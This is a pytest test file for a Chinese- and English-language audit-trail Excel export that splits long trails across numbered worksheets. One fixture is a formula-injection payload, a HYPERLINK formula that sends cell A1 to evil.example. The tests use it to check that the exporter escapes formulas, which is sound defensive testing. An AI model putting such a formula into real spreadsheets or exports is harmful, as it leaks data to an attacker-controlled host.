"""audit_excel.py: a trail longer than a worksheet holds goes on in further worksheets,
every row once and in order, each sheet with its header, no cell a formula.

The limit is lowered (``sheet_rows`` or the module's ``SHEET_ROWS``) so that no test
writes the million rows a real worksheet takes."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

from contest_desk.domain.audit_words import time_heading
from contest_desk.domain.records.audit import AuditRow
from contest_desk.i18n import speaking
from contest_desk.reports import audit_excel
from contest_desk.reports.audit_excel import write_audit_excel

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
AT = dt.datetime(2026, 3, 1, 8, 30, tzinfo=dt.UTC)


def trail(count: int) -> list[AuditRow]:
    """``count`` rows, newest first as the audit view lists them; the oldest row's reason
    looks like a formula."""
    return [
        AuditRow(
            seq=seq,
            at=AT + dt.timedelta(minutes=seq),
            actor="system",
            action="score.record",
            target=f"entry:{seq}",
            detail={"old": "7", "new": "8"},
            note=HYPERLINK if seq == 1 else f"复核 {seq}",
        )
        for seq in range(count, 0, -1)
    ]


def read_back(path: Path) -> dict[str, list[tuple[object, ...]]]:
    book = load_workbook(path)
    return {
        sheet.title: [tuple(c.value for c in row) for row in sheet.iter_rows()]
        for sheet in book.worksheets
    }


def test_rows_past_a_worksheet_go_on_in_the_next(tmp_path: Path) -> None:
    with speaking("zh_CN"):
        path = write_audit_excel(tmp_path / "审计记录.xlsx", trail(7), sheet_rows=3)
        time = time_heading()  # the desk's zone: 时间（北京时间） in China
    sheets = read_back(path)
    assert list(sheets) == ["审计记录", "审计记录 (2)", "审计记录 (3)", "审计记录 (4)"]
    headers = {rows[0] for rows in sheets.values()}
    assert len(headers) == 1 and headers.pop()[:3] == ("序号", time, "用户")
    assert [len(rows) for rows in sheets.values()] == [3, 3, 3, 2]  # header and 2, 2, 2, 1
    seqs = [row[0] for rows in sheets.values() for row in rows[1:]]
    assert seqs == [7, 6, 5, 4, 3, 2, 1]  # each once, newest first, as the view lists them
    assert sheets["审计记录 (4)"][1][7] == "'" + HYPERLINK  # the guard on the last sheet too

    last = load_workbook(path)["审计记录 (4)"]
    assert last["H2"].data_type == "s"
    assert last["B2"].is_date and last.freeze_panes == "A2"


def test_rows_that_just_fill_a_worksheet_take_no_further_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_excel, "SHEET_ROWS", 5)  # what the audit view's export uses
    with speaking("en"):
        full = read_back(write_audit_excel(tmp_path / "full.xlsx", trail(4)))
        over = read_back(write_audit_excel(tmp_path / "over.xlsx", trail(5)))
        empty = read_back(write_audit_excel(tmp_path / "empty.xlsx", []))
    assert [len(rows) for rows in full.values()] == [5]
    assert {title: len(rows) for title, rows in over.items()} == {
        "Audit trail": 5,
        "Audit trail (2)": 2,
    }
    assert over["Audit trail (2)"][1][0] == 1
    assert [len(rows) for rows in empty.values()] == [1]  # the header alone
